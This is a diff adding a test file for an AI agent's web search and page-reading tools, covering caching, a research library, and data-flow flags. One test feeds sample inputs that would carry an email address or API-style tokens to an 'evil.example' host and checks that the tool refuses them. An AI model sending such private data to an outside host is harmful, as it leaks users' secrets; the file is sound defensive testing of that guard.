@@ -1,0 +1,106 @@
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
+import { newId } from '#kit/ids.ts'
+import type { Tool } from '#engine/gate.ts'
+import { newResearcher, openWebWorld, type Researcher, type WebWorld } from './test-research.ts'
+
+let world: WebWorld
+let mine: Researcher
+beforeAll(async () => {
+  world = await openWebWorld()
+})
+afterAll(() => world.close())
+beforeEach(async () => {
+  mine = await newResearcher(world)
+})
+
+const kettle = 'https://northkettle.example.com/products/gooseneck-kettle'
+
+function find(name: string): Tool {
+  const found = world.server.tools.find((tool) => tool.name === name)
+  if (!found) throw new Error(`No tool ${name}`)
+  return found
+}
+
+const use = async (name: string, input: object, idempotencyKey = `${newId()}:act 1.1`) => {
+  const tool = find(name)
+  const { workspaceId } = mine
+  const call = { workspaceId, signal: AbortSignal.timeout(60_000), idempotencyKey }
+  return tool.run(call, tool.input.parse(input))
+}
+
+test('an agent searches and reads, and the library says that it did', async () => {
+  const runId = newId()
+  expect(await use('web-search', { query: 'gooseneck' }, `${runId}:act 1.1`)).toMatchObject({
+    outcome: 'answer',
+    summary: '3 pages on “gooseneck” on the web.',
+    basis: { kind: 'web', rows: 3 },
+    sources: [{ url: kettle }, {}, {}],
+  })
+  expect(await use('web-extract', { url: kettle })).toMatchObject({
+    summary: 'The page “Gooseneck Kettle 0.8 L” was read.',
+    detail: { url: kettle, content: expect.stringContaining('74.00 EUR') },
+  })
+  const { items } = await mine.list()
+  expect(items.map(({ askedBy, kind }) => [askedBy, kind])).toEqual([
+    ['agent', 'extract'],
+    ['agent', 'search'],
+  ])
+  expect(items[1]?.runId).toBe(runId)
+  expect(await use('research-library', { search: 'gooseneck', limit: 1 })).toMatchObject({
+    summary: '2 items match. These are the newest 1.',
+    tables: [{ rows: [{ kind: 'extract', url: kettle }] }],
+  })
+  expect(await use('research-library', { search: 'nothing like it' })).toMatchObject({
+    summary: 'Nothing in the library matches.',
+  })
+})
+
+test('a step that happens twice asks the web once', async () => {
+  const key = `${newId()}:act 1.1`
+  const [first, second] = [
+    await use('web-search', { query: 'kettle' }, key),
+    await use('web-search', { query: 'kettle' }, key),
+  ]
+  expect(second).toEqual(first)
+  expect(world.takeRequests()).toHaveLength(1)
+})
+
+test.each([
+  ['web-search', { query: 'who is ida.berg@example.com' }],
+  ['web-search', { query: 'who is ida%40example.com' }],
+  ['web-search', { query: 'tvly-0123456789' }],
+  ['web-extract', { url: 'https://evil.example/?to=ida%40example.com' }],
+  ['web-extract', { url: 'https://evil.example/shpat_0123456789' }],
+])('an agent carries nothing private out by %s %j', async (name, input) => {
+  world.takeRequests()
+  await expect(use(name, input)).rejects.toMatchObject({ name: 'Refusal', code: 'QUERY_PRIVATE' })
+  expect(world.takeRequests()).toEqual([])
+})
+
+test('an ordinary address that begins like a key is read', async () => {
+  const url = 'https://shop.example.com/sk-hynix-memory-kit'
+  world.peer.publish([{ url, title: 'Memory', content: 'A memory kit.' }])
+  expect(await use('web-extract', { url })).toMatchObject({ detail: { content: 'A memory kit.' } })
+})
+
+test('what comes from the web taints, what goes there is outward, and research waits for a yes', () => {
+  const traits = (name: string) => {
+    const { effect, isTainting = false, isOutward = false } = find(name)
+    return [effect, isTainting, isOutward]
+  }
+  expect(traits('web-search')).toEqual(['read', true, true])
+  expect(traits('web-extract')).toEqual(['read', true, true])
+  expect(traits('research-library')).toEqual(['read', true, false])
+  expect(traits('start-research')).toEqual(['write', false, false])
+})
+
+test('an agent starts research once for a region', async () => {
+  const [first, second] = [
+    await use('start-research', { region: 'india' }),
+    await use('start-research', { region: 'india' }),
+  ]
+  expect(first).toMatchObject({ region: 'india', isNew: true, message: 'India market research has started.' })
+  const task = await mine.finish('india')
+  expect(task.region).toBe('india')
+  expect(second).toMatchObject({ region: 'india' })
+})
